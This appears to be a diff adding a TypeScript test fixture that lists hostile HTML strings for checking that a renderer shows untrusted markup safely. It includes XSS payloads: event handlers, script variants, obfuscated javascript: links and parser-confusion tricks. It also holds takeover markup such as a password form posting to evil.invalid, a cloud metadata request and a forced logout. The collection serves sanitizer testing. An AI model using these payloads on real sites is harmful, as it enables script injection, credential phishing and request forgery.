@@ -1,0 +1,151 @@
+/**
+ * HTML that runs something, or tries to, where it is shown untouched: one entry per way in. What runs sets
+ * `window.ran`, so that a journey in a real browser can tell.
+ */
+const RUN = 'window.ran=1'
+
+/** Elements that act by themselves, by a handler each. */
+const handlers = [
+  ['img src=x', 'onerror'],
+  ['img src=/favicon.svg', 'onload'],
+  ['svg', 'onload'],
+  ['body', 'onload'],
+  ['video src=x', 'onerror'],
+  ['audio src=x', 'onerror'],
+  ['video><source src=x', 'onerror'],
+  ['iframe src=about:blank', 'onload'],
+  ['object data=x', 'onerror'],
+  ['embed src=x', 'onload'],
+  ['link rel=stylesheet href=/favicon.svg', 'onload'],
+  ['style', 'onload'],
+  ['script src=x', 'onerror'],
+  ['details open', 'ontoggle'],
+  ['marquee', 'onstart'],
+  ['input autofocus', 'onfocus'],
+  ['select autofocus', 'onfocus'],
+  ['textarea autofocus', 'onfocus'],
+  ['button autofocus', 'onfocus'],
+  ['a autofocus href=/browse', 'onfocus'],
+  ['p tabindex=0 autofocus', 'onfocus'],
+  ['p contenteditable autofocus', 'onfocus'],
+  ['h2 popover', 'onbeforetoggle'],
+  ['strong style="animation:spin 1s"', 'onanimationstart'],
+  ['em style="transition:all 1s"', 'ontransitionend'],
+  ['blockquote', 'onpointerrawupdate'],
+  ['li', 'onmouseover'],
+] as const
+
+const byHandler = handlers.map(([element, handler]) => `<${element} ${handler}="${RUN}">x`)
+
+const scripts = [
+  `<script>${RUN}</script>`,
+  `<SCRIPT>${RUN}</SCRIPT>`,
+  `<script\n>${RUN}</script\n>`,
+  `<script/x>${RUN}</script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<<script>${RUN}//<</script>`,
+  `<script type=module>${RUN}</script>`,
+  `<script src="data:text/javascript,${RUN}"></script>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
+  `<math><script>${RUN}</script></math>`,
+  `<template><script>${RUN}</script></template>`,
+  `<template shadowrootmode=open><img src=x onerror=${RUN}></template>`,
+  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
+  `<iframe src="javascript:parent.ran=1"></iframe>`,
+  `<object data="javascript:${RUN}"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<base href="javascript:/a/-${RUN}//">`,
+]
+
+/** Addresses that are none; a journey follows what is left of them. */
+const addresses = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  ` javascript:${RUN}`,
+  `\u0001javascript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `java&#x0A;script:${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}`,
+  `javascript&colon;${RUN}`,
+  `javas&Tab;cript&colon;${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>parent.ran=1</script>`,
+  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuPTE8L3NjcmlwdD4=`,
+  `blob:${RUN}`,
+  `view-source:javascript:${RUN}`,
+  `//evil.invalid/`,
+  `/\\evil.invalid/`,
+  `\\\\evil.invalid/`,
+  `https://us:er@evil.invalid/`,
+].map((address) => `<a href="${address}">follow</a>`)
+
+/** What one parser takes for text and the next for markup. */
+const confusions = [
+  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
+  `<math><style><img src=x onerror=${RUN}></style></math>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
+  `<svg></p><style><a title="</style><img src=x onerror=${RUN}>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
+  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
+  `<title><p title="</title><img src=x onerror=${RUN}>">`,
+  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
+  `<iframe><p title="</iframe><img src=x onerror=${RUN}>">`,
+  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
+  `<plaintext><img src=x onerror=${RUN}>`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<!--!><img src=x onerror=${RUN}>`,
+  `<!-- --!><img src=x onerror=${RUN}> -->`,
+  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
+  `<?xml ?><img src=x onerror=${RUN}>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></foreignObject></svg>`,
+  `<svg><animate attributeName=href values="javascript:${RUN}"/><a><text y=20>x</text></a></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
+  `<select><template><img src=x onerror=${RUN}></template></select>`,
+  `<p title='"><img src=x onerror=${RUN}>'>x</p>`,
+  `<img alt="\`><img src=x onerror=${RUN}>" src=x>`,
+  `<img src="https://a.invalid/x.png" alt='" onerror="${RUN}'>`,
+  `<p class="align-center&quot; onmouseover=&quot;${RUN}">x</p>`,
+  `&lt;img src=x onerror=${RUN}&gt;`,
+  `<img/src=x/onerror=${RUN}>`,
+  `<img src=x onerror\u000c=${RUN}>`,
+  `<p\u0000><img src=x onerror=${RUN}>`.replace('\u0000', ''),
+  `<a href="https://a.invalid/" href="javascript:${RUN}">x</a>`,
+]
+
+/** Nothing runs, but the page is not ours any more: styles, forms, names, requests to elsewhere. */
+const takeovers = [
+  '<p style="position:fixed;inset:0;background:red">x</p>',
+  '<p class="fixed inset-0 z-50">x</p>',
+  '<div style="background:url(https://evil.invalid/x)">x</div>',
+  '<p style="text-align:center;position:fixed">x</p>',
+  '<style>@import "https://evil.invalid/x.css"; body{display:none}</style>',
+  '<link rel=stylesheet href=https://evil.invalid/x.css>',
+  '<form action=https://evil.invalid/><input name=password><button>Sign in</button></form>',
+  '<button formaction="javascript:window.ran=1">x</button>',
+  '<p id=content name=ran>x</p>',
+  '<a id=ran href=https://evil.invalid/>x</a>',
+  '<img name=currentScript src=https://a.invalid/x.png>',
+  '<img src="/api/logout">',
+  '<img src="http://169.254.169.254/latest">',
+  '<img src="//evil.invalid/x.png">',
+  '<img src="data:image/svg+xml,<svg onload=window.ran=1>">',
+  '<img srcset="https://evil.invalid/x.png 2x" src=x>',
+  '<picture><source srcset="https://evil.invalid/x.png"></picture>',
+  '<a href="https://a.invalid/" ping="https://evil.invalid/">x</a>',
+  '<a href="https://a.invalid/" target="_top" download>x</a>',
+  '<blockquote cite="javascript:window.ran=1">x</blockquote>',
+  '<dialog open>Sign in again</dialog>',
+]
+
+export const hostileHtml: readonly string[] = [
+  ...byHandler,
+  ...scripts,
+  ...addresses,
+  ...confusions,
+  ...takeovers,
+]
